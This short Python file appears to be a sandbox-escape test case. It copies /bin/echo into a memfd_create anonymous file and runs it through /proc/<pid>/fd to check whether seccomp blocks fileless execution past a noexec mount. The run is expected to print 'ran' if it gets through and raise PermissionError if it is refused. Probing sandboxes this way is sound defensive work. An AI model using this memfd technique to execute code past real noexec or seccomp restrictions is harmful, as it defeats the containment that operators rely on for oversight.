# weakness: seccomp
# goal: run a program of its own from memory, past `noexec`
# reached: "ran"
# refused: PermissionError
import os
import subprocess

from attack import syscall

with open("/bin/echo", "rb") as file:
    program = file.read()
place = syscall("memfd_create", b"program", 0)
os.write(place, program)
path = f"/proc/{os.getpid()}/fd/{place}"
result = subprocess.run([path, "ran"], capture_output=True, check=True).stdout.decode().strip()
